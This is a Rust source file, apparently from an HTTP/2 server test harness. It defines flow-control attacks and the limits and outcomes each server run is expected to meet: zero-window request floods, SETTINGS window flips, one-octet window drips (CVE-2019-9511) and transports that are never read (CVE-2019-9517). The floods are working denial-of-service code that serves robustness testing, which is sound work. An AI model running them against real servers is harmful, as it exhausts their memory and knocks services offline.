//! Windows that close, flip and drip, and peers that do not read (RFC 9113 §6.9, §10.5).

use std::thread::sleep;
use std::time::{Duration, Instant};

use anyhow::Result;

use crate::attack::{Attack, Expected::*, HTTP2, Run, Setting};
use crate::target::Target;
use crate::wire::frames::*;
use crate::wire::{Connection, Reading, Seen, fields, websocket};

const MIB_16: &str = "16 MiB for a connection";
/// Streams that `sockeye serve` allows.
const STREAMS: u32 = 1024;

fn id(index: u32) -> u32 {
    1 + 2 * index
}

/// Waits for the target's time, and reads meanwhile.
fn wait(connection: &mut Connection, target: &Target) {
    let deadline = Instant::now() + target.time;
    while Instant::now() < deadline && !connection.is_over() {
        let _ = connection.poll_until(deadline);
    }
}

/// A page for each stream, and no window for any of them.
fn gets_without_a_window(target: &Target) -> Result<Seen> {
    let mut connection = Connection::start(target, &[(INITIAL_WINDOW_SIZE, 0)])?;
    for index in 0..STREAMS {
        connection.send(&headers(id(index), END_STREAM, &fields::get()));
    }
    connection.barrier();
    wait(&mut connection, target);
    Ok(connection.settle())
}

/// As many windows as fit into SETTINGS, in every frame, while ten thousand sockets are open.
fn flips(target: &Target, pause: Duration) -> Result<Seen> {
    let mut connection = Connection::start(target, &[])?;
    connection.open_many(10_000)?;
    let start = target.resident();
    let deadline = Instant::now() + target.time;
    let pairs: Vec<_> =
        (0..2730).map(|index| (INITIAL_WINDOW_SIZE, if index % 2 == 0 { 1 } else { MAX_WINDOW })).collect();
    let mut flips = 0;
    while Instant::now() < deadline && !connection.is_over() && connection.seen.goaway.is_none() {
        connection.send(&settings(&pairs));
        flips += 1;
        connection.take_what_came();
        sleep(pause);
    }
    let mut seen = connection.settle();
    seen.notes.push(format!(
        "{flips} frames of 2,730 flips, +{} KiB by them",
        target.resident().saturating_sub(start) / 1024
    ));
    Ok(seen)
}

/// Messages that are echoed, on every stream, into windows that have room for none of them.
fn echoes_into_closed_windows(target: &Target) -> Result<Seen> {
    let mut connection = Connection::start(target, &[(INITIAL_WINDOW_SIZE, 0)])?;
    connection.open_many(STREAMS)?;
    // Within the windows that so many streams are given; what is credited is used by another round.
    let message = websocket::message(websocket::BINARY, &[0x55; 1600]);
    for _ in 0..2 {
        for index in 0..STREAMS {
            connection.send(&data(id(index), &message));
        }
        connection.barrier_within(Duration::from_secs(10));
    }
    connection.barrier_within(Duration::from_secs(30));
    wait(&mut connection, target);
    Ok(connection.settle())
}

/// Windows wide open, and a transport that is never read (CVE-2019-9517).
fn never_reads(target: &Target, octets: &[u8]) -> Result<Seen> {
    let mut connection = Connection::start(target, &[(INITIAL_WINDOW_SIZE, MAX_WINDOW)])?;
    connection.send(&window_update(0, MAX_WINDOW - DEFAULT_WINDOW));
    connection.open_many(64)?;
    let mut next = 0;
    connection.flood(target.time, Reading::Never, |batch| {
        batch.extend(data(id(next % 64), octets));
        next += 1;
    });
    let mut seen = connection.seen;
    seen.notes.push(format!("took {:.1} MB", connection.sent as f64 / 1e6));
    Ok(seen)
}

/// Pages asked for on a transport that is never read.
fn never_reads_pages(target: &Target) -> Result<Seen> {
    let mut connection = Connection::start(target, &[(INITIAL_WINDOW_SIZE, MAX_WINDOW)])?;
    connection.send(&window_update(0, MAX_WINDOW - DEFAULT_WINDOW));
    let mut next = 0;
    connection.flood(target.time, Reading::Never, |batch| {
        batch.extend(headers(id(next), END_STREAM, &fields::get()));
        next += 1;
    });
    let mut seen = connection.seen;
    seen.notes.push(format!("{next} requests"));
    Ok(seen)
}

/// One octet of credit at a time, for as many messages as go (CVE-2019-9511).
fn drips(target: &Target) -> Result<Seen> {
    let mut connection = Connection::start(target, &[(INITIAL_WINDOW_SIZE, 0)])?;
    connection.open_many(100)?;
    for index in 0..100 {
        connection.send(&data(id(index), &websocket::message(websocket::BINARY, &[0; 16_000])));
    }
    let mut next = 0;
    connection.flood(target.time, Reading::Reads, |batch| {
        for _ in 0..64 {
            batch.extend(window_update(id(next % 100), 1));
            next += 1;
        }
    });
    let octets = connection.seen.octets;
    let mut seen = connection.settle();
    seen.notes.push(format!("{octets} octets in drips"));
    Ok(seen)
}

const TEN_THOUSAND: Setting = Setting { arguments: &["--max-streams", "100000"], growth: 30, ..HTTP2 };

pub const ROWS: &[Attack] = &[
    Attack {
        name: "GETs with a window of 0",
        why: "73 KB that made 29 MiB",
        limit: MIB_16,
        expected: &[GoesOn],
        setting: HTTP2,
        run: Run::Act(gets_without_a_window),
    },
    Attack {
        name: "window flips beside 10,000 sockets",
        why: "RFC 9113 §6.9.2",
        limit: "a burst of 100 SETTINGS, then 10 a second",
        expected: &[GoAway(ENHANCE_YOUR_CALM)],
        setting: TEN_THOUSAND,
        run: Run::Act(|target| flips(target, Duration::ZERO)),
    },
    Attack {
        name: "window flips beside 10,000 sockets, at the rate that may be",
        why: "RFC 9113 §6.9.2",
        limit: "ten frames a second, each of 2,730 flips",
        expected: &[GoesOn],
        setting: TEN_THOUSAND,
        run: Run::Act(|target| flips(target, Duration::from_millis(100))),
    },
    Attack {
        name: "echoes into windows of 0, on 1,024 sockets",
        why: "RFC 9113 §6.9",
        limit: MIB_16,
        expected: &[GoesOn],
        setting: HTTP2,
        run: Run::Act(echoes_into_closed_windows),
    },
    Attack {
        name: "drips of one octet of window",
        why: "CVE-2019-9511",
        limit: "octets ÷ 8 may exceed useful ones by 1 MiB",
        expected: &[GoesOn, GoAway(ENHANCE_YOUR_CALM)],
        setting: HTTP2,
        run: Run::Act(drips),
    },
    Attack {
        name: "echoes of 16 kB that are never read",
        why: "CVE-2019-9517",
        limit: MIB_16,
        expected: &[Anything],
        setting: HTTP2,
        run: Run::Act(|target| never_reads(target, &websocket::message(websocket::BINARY, &[0; 16_000]))),
    },
    Attack {
        name: "tiny echoes that are never read",
        why: "CVE-2019-9517",
        limit: MIB_16,
        expected: &[Anything],
        setting: HTTP2,
        run: Run::Act(|target| never_reads(target, &websocket::message(websocket::BINARY, b"x").repeat(1000))),
    },
    Attack {
        name: "pages that are never read",
        why: "CVE-2019-9517",
        limit: MIB_16,
        expected: &[Anything],
        setting: HTTP2,
        run: Run::Act(never_reads_pages),
    },
];
